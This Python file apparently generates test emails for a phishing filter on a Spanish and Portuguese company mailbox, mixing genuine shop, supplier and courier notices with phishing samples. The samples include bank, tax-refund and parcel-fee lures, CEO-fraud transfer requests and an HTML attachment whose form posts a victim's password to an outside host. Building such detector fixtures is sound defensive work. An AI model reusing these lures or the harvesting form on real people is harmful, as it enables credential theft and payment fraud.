# Targeted cases for the Spanish and Portuguese company mailbox
# (gen_iberia.py), judged against its learned history: i01-i05 legitimate
# first contacts and notices that read like lures, and phish-* cases shaped
# like its mail, in its languages and charsets, which should be flagged.
from gen_common import ew, who, part, multi, alt_cs as alt, b64, case_writer

w = case_writer("lucia.ferrer@lumbre-ing.example", "iberia", tz="+0100")

# --- legitimate ---
# i01: a shop never used before (first order): its genuine "pending payment" notice
body, ct = alt("Pedido 55120 pendiente de pago\n",
               '<p>Hola Lucía,</p><p>Gracias por tu pedido n.º 55120 en Mobiliario Oficina Sur (2 sillas ergonómicas, 418,00 EUR). Has elegido pago por transferencia bancaria.</p>'
               '<p>Realiza la transferencia a ES12 0182 2370 4200 1234 5678 indicando el número de pedido. Tu pedido será cancelado si no recibimos el pago en 5 días hábiles.</p>'
               '<p><a href="https://www.mobiliario-oficinasur.example/cuenta/pedidos/55120">Ver mi pedido</a></p><p>Mobiliario Oficina Sur</p>', "utf-8", "quoted-printable")
w("i01-new-shop-order-pending-transfer", "Mobiliario Oficina Sur <pedidos@mobiliario-oficinasur.example>", ew("Pedido n.º 55120: pendiente de pago"), body, ct)
# i02: a Portuguese shop never used before: a Multibanco reference, order cancelled after 72 hours
body, ct = alt("Encomenda 80231: referência Multibanco\n",
               '<p>Olá Lucía,</p><p>Obrigado pela sua encomenda n.º 80231 na Papelaria Chiado Online.</p>'
               '<p>Para concluir, efetue o pagamento por Multibanco:<br>Entidade: 21312<br>Referência: 812 345 678<br>Valor: 64,90 EUR</p>'
               '<p>A referência é válida por 72 horas. Após esse prazo, a sua encomenda será cancelada automaticamente.</p>'
               '<p><a href="https://www.papelaria-chiado.example/minha-conta/encomendas/80231">Ver encomenda</a></p>', "utf-8", "quoted-printable")
w("i02-new-shop-multibanco-reference", "Papelaria Chiado Online <encomendas@papelaria-chiado.example>", ew("Encomenda n.º 80231 - aguarda pagamento"), body, ct)
# i03: the known supplier's reminder with a link to its own customer portal
body, ct = alt("Recordatorio de pago\n",
               '<p>Estimado cliente:</p><p>Le recordamos que la factura F2026-30112 por importe de 1.210,00 EUR venció el 15/11/2026 y figura como pendiente de pago.</p>'
               '<p>Puede consultar sus facturas y realizar el pago en su área de cliente: <a href="https://clientes.papeleria-castellana.example/facturas">Acceder al área de cliente</a></p>'
               '<p>Si ya ha realizado la transferencia, por favor ignore este mensaje.</p><p>Administración<br>Papelería Castellana S.L.</p>', "utf-8", "quoted-printable")
w("i03-known-supplier-reminder-portal", who("Papelería Castellana S.L. Administración", "facturas@papeleria-castellana.example"), ew("Recordatorio: factura F2026-30112 pendiente de pago"), body, ct)
# i04: a new customer's accounts department sends its supplier-onboarding form
body, ct = alt("Alta de proveedor\n",
               '<p>Buenos días:</p><p>Para darles de alta como proveedor necesitamos que completen el formulario con sus datos fiscales y bancarios y adjunten un certificado de titularidad de la cuenta.</p>'
               '<p><a href="https://proveedores.grupo-vallecas.example/alta">Formulario de alta de proveedores</a></p>'
               '<p>Un saludo,<br>Cuentas a pagar<br>Grupo Vallecas Infraestructuras</p>', "iso-8859-1", "quoted-printable")
w("i04-new-customer-supplier-onboarding", who("Cuentas a pagar - Grupo Vallecas", "cuentasapagar@grupo-vallecas.example"), ew("Alta de proveedor: datos bancarios y fiscales", "iso-8859-1"), body, ct)
# i05: CTT's genuine notice that a parcel could not be delivered (second attempt, pick up at a shop)
body, ct = alt("Encomenda por entregar\n",
               '<p>Olá,</p><p>Não foi possível entregar a sua encomenda RT123498765PT. Pode levantá-la a partir de amanhã no Ponto CTT da Avenida da República, 44, no prazo de 10 dias úteis; '
               'após esse prazo será devolvida ao remetente.</p>'
               '<p><a href="https://www.ctt.pt/feapl_2/app/open/objectSearch/objectSearch.jspx?objects=RT123498765PT">Seguir encomenda</a></p><p>CTT &ndash; Correios de Portugal</p>', "utf-8", "quoted-printable")
w("i05-ctt-not-delivered", "CTT <noreply@ctt.pt>", ew("Não foi possível entregar a sua encomenda"), body, ct)

# --- phishing ---
# a Santander "verify your identity or be blocked" lure on a lure's domain
body, ct = alt("Verifique su identidad: https://santander-verificacion.clientes-seguridad.top/acceso\n",
               '<p>Estimado cliente:</p><p>Hemos detectado un acceso inusual a su banca online. Por su seguridad, su cuenta ha sido bloqueada temporalmente.</p>'
               '<p>Para desbloquearla, verifique su identidad antes de 24 horas:</p>'
               '<p><a href="https://santander-verificacion.clientes-seguridad.top/acceso?c=lferrer">Verificar identidad</a></p><p>Banco Santander</p>', "iso-8859-1", "quoted-printable")
w("phish-santander-verificacion", who("Banco Santander", "seguridad@santander-clientes.example"), ew("Acción requerida: verifique su identidad", "iso-8859-1"), body, ct)
# Correos redelivery fee
body, ct = alt("Su paquete está retenido.\n",
               '<p>Estimado cliente:</p><p>Su paquete no ha podido ser entregado porque los gastos de envío no han sido abonados. '
               'Para programar una nueva entrega, abone 1,99 EUR en las próximas 48 horas.</p>'
               '<p><a href="https://correos-es.entrega-reprogramar.shop/pago?id=PQ4B7A0012345">Programar la entrega</a></p><p>Correos</p>', "utf-8", "quoted-printable")
w("phish-correos-reenvio", "Correos <info@correos-envios.example>", ew("Su paquete está pendiente de entrega"), body, ct)
# CTT redelivery / customs fee in Portuguese
body, ct = alt("A sua encomenda está retida.\n",
               '<p>Caro cliente,</p><p>A sua encomenda RR0019283746PT está retida no nosso centro de distribuição por falta de pagamento das taxas de envio. '
               'Pague 2,49 EUR para que a entrega seja reagendada.</p>'
               '<p><a href="https://ctt-pt.reagendar-entrega.top/pagar?o=RR0019283746PT">Pagar e reagendar</a></p><p>CTT Expresso</p>', "iso-8859-15", "quoted-printable")
w("phish-ctt-taxa", "CTT Expresso <notificacoes@ctt-entregas.example>", ew("A sua encomenda aguarda pagamento", "iso-8859-15"), body, ct)
# Agencia Tributaria tax refund
body, ct = alt("Tiene una devolución pendiente.\n",
               '<p>Agencia Tributaria</p><p>Tras el cálculo de su última declaración, le corresponde una devolución de 348,20 EUR.</p>'
               '<p>Para recibirla, confirme sus datos bancarios antes del 30/11/2026:</p>'
               '<p><a href="https://agenciatributaria-devolucion.online/es/sede/confirmar">Solicitar devolución</a></p><p>Agencia Estatal de Administración Tributaria</p>', "utf-8", "quoted-printable")
w("phish-aeat-devolucion", who("Agencia Tributaria", "devoluciones@aeat-sede.example"), ew("Notificación: devolución de impuestos pendiente"), body, ct)
# Portal das Finanças IRS refund
body, ct = alt("Reembolso de IRS.\n",
               '<p>Exmo(a). Contribuinte,</p><p>Após a análise da sua declaração, tem direito a um reembolso de IRS no valor de 412,65 EUR.</p>'
               '<p>Para receber o reembolso, atualize os seus dados bancários no prazo de 48 horas:</p>'
               '<p><a href="https://portaldasfinancas-reembolso.web.app/irs">Receber reembolso</a></p><p>Autoridade Tributária e Aduaneira</p>', "iso-8859-1", "quoted-printable")
w("phish-financas-reembolso", who("Portal das Finanças", "reembolsos@at-contribuinte.example", "iso-8859-1"), ew("Reembolso de IRS disponível", "iso-8859-1"), body, ct)
# mailbox quota under the company's name, on free hosting
body, ct = alt("Su buzón ha superado el límite.\n",
               '<p>Estimado/a lucia.ferrer@lumbre-ing.example:</p><p>Su buzón de correo ha superado el límite de almacenamiento (99 % de 2 GB). Los mensajes nuevos serán retenidos.</p>'
               '<p>Inicie sesión para ampliar su espacio de almacenamiento de forma gratuita:</p>'
               '<p><a href="https://lumbre-ing-webmail.weebly.com/">Ampliar almacenamiento</a></p><p>Lumbre Ingeniería &ndash; Soporte TI</p>', "iso-8859-15", "8bit")
w("phish-buzon-lleno", who("Lumbre Ingeniería Soporte TI", "soporte@lumbre-ing-mail.example"), ew("Su buzón de correo está lleno", "utf-8", "B"), body, ct)
# Microsoft 365 password expiry in Portuguese
body, ct = alt("A sua palavra-passe expira hoje.\n",
               '<p>Microsoft 365</p><p>A palavra-passe de lucia.ferrer@lumbre-ing.example expira hoje.</p>'
               '<p>Para manter a palavra-passe atual, inicie sessão e confirme a sua conta:</p>'
               '<p><a href="https://login-microsoftonline.manter-palavra-passe.top/common/oauth2/?email=lucia.ferrer@lumbre-ing.example">Manter a palavra-passe atual</a></p>'
               '<p>Microsoft Corporation, One Microsoft Way, Redmond, WA 98052</p>', "utf-8", "base64")
w("phish-m365-palavra-passe", "Microsoft 365 <no-reply@m365-contas.example>", ew("A sua palavra-passe expira hoje"), body, ct)
# invoice "attached" as an HTML file that asks for the mailbox password (a Portuguese supplier's name)
page = ('<html><head><meta charset="utf-8"><title>Fatura</title></head><body><h2>Documento protegido</h2>'
        '<p>Para visualizar a fatura FT 2026/4471, inicie sessão com o seu email e palavra-passe.</p>'
        '<form action="https://faturas-docs.ddns.net/ver.php" method="post"><input name="email" value="lucia.ferrer@lumbre-ing.example">'
        '<input type="password" name="pw"><button>Ver fatura</button></form></body></html>')
body, ct = multi("mixed", [part("text/plain", "Bom dia,\n\nsegue em anexo a fatura FT 2026/4471 para pagamento.\n\nCumprimentos,\nContabilidade\n", "utf-8", "quoted-printable"),
                           "Content-Type: text/html; name=\"Fatura_FT2026-4471.html\"\nContent-Disposition: attachment; filename=\"Fatura_FT2026-4471.html\"\nContent-Transfer-Encoding: base64\n\n" + b64(page.encode())], "h1")
w("phish-fatura-html", who("Informática Ribeira Contabilidade", "faturacao@informatica-ribeira-pt.example"), ew("Fatura FT 2026/4471"), body, ct)
# CEO fraud: the director general's name from free mail, "urgent transfer, confidential"
body, ct = multi("alternative", [part("text/plain", "Lucía:\n\n¿estás en la oficina? Necesito que hagas hoy una transferencia urgente de 38.600,00 EUR a un proveedor nuevo "
                                      "(es una adquisición, totalmente confidencial, no lo comentes con nadie del equipo todavía). Te paso ahora los datos de la cuenta.\n"
                                      "Estoy en reuniones y solo puedo por correo.\n\nIgnacio Salvatierra\nDirector General\nEnviado desde mi iPhone\n", "iso-8859-1", "quoted-printable")], "ceo1")
w("phish-ceo-transferencia", who("Ignacio Salvatierra", "ignacio.salvatierra.dg@gmail.com"), ew("Transferencia urgente - confidencial", "iso-8859-1"), body, ct)
# the same in Portuguese, under the Lisbon director's name
body, ct = multi("alternative", [part("text/plain", "Olá Lucía,\n\nestás disponível? Preciso que faças ainda hoje uma transferência de 24.900,00 EUR para um novo fornecedor. "
                                      "É confidencial, por favor não comentes com a equipa. Envio-te os dados bancários a seguir.\n\nRui Gonçalves\nEnviado do meu iPhone\n", "utf-8", "quoted-printable")], "ceo2")
w("phish-ceo-transferencia-pt", who("Rui Gonçalves", "rui.goncalves.lisboa@outlook.com"), ew("Pagamento urgente"), body, ct)
